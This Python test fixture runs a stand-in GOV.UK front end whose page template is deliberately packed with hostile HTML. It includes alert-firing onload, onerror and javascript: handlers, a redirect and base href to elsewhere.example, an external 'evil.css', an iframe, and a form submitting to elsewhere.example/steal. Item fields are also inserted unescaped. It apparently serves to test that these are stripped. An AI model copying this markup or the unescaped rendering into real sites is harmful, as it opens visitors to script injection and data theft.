"""A small GOV.UK front end: it reads an item over HTTP and answers with a page of it.

As the real ones do, it passes on the headers that name the visitor, and maps the content store's
answers to its own: 403, 404 and 410 as they are, everything else to 503.
"""

from __future__ import annotations

import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import requests

PASSED_ON = (
    "Govuk-Auth-Bypass-Id",
    "GOVUK-Request-Id",
    "X-Govuk-Authenticated-User",
    "X-Govuk-Authenticated-User-Organisation",
)
PAGE = """<!DOCTYPE html><html lang="{locale}" class="govuk-template"><head>
<title>{title} - GOV.UK</title>
<base href="https://elsewhere.example/">
<meta http-equiv="refresh" content="0; url=https://elsewhere.example/">
<link rel="stylesheet" href="/assets/frontend/application.css">
<link rel="stylesheet" href="https://elsewhere.example/evil.css">
<script src="/assets/frontend/application.js"></script></head>
<body class="govuk-template__body" onload="alert(1)">
<main id="content"><h1>{title}</h1><div class="govspeak">{body}</div>
<p><img src="/assets/frontend/crest.png" alt="Crest" onerror="alert(2)"></p>
<ul>{links}</ul>
<a href="javascript:alert(3)">Bad</a><a href="https://www.gov.uk/elsewhere">Elsewhere</a>
<iframe src="https://elsewhere.example/"></iframe>
<form action="https://elsewhere.example/steal"><input name="q"></form>
<script>alert(4)</script></main></body></html>"""


class FrontEnd:
    """A running front end; `asked` are the headers of the requests that it got."""

    def __init__(self, content_store: str) -> None:
        self.content_store = content_store
        self.asked: list[dict[str, str]] = []
        self.answer: tuple[int, str, bytes] | None = None
        front_end = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                front_end.asked.append(dict(self.headers))
                status, kind, body = front_end.answer or front_end.page(self)
                self.send_response(status)
                self.send_header("Content-Type", kind)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *_: Any) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.address = f"http://127.0.0.1:{self.server.server_port}"

    def page(self, request: BaseHTTPRequestHandler) -> tuple[int, str, bytes]:
        """Read the item at the path, and return the page of it."""
        headers = {name: request.headers[name] for name in PASSED_ON if request.headers[name]}
        got = requests.get(
            f"{self.content_store}/content{request.path}", headers=headers, timeout=20
        )
        if got.status_code != 200:
            status = got.status_code if got.status_code in (403, 404, 410) else 503
            return status, "text/html; charset=utf-8", b"<title>Error</title><h1>Error</h1>"
        return 200, "text/html; charset=utf-8", rendered(got.json()).encode()


def rendered(item: dict[str, Any]) -> str:
    """Return the page of an item, with everything in it that a page of others may hold."""
    rows = [row for kind in item["links"].values() for row in kind if row.get("base_path")]
    links = "".join(f'<li><a href="{row["base_path"]}">{row["title"]}</a></li>' for row in rows)
    return PAGE.format(
        locale=item["locale"],
        title=item["title"],
        body=item["details"].get("body", ""),
        links=links,
    )


@contextmanager
def running(content_store: str) -> Iterator[FrontEnd]:
    """Run a front end that reads from this content store."""
    front_end = FrontEnd(content_store)
    thread = threading.Thread(target=front_end.server.serve_forever, daemon=True)
    thread.start()
    try:
        yield front_end
    finally:
        front_end.server.shutdown()
        front_end.server.server_close()
        thread.join()
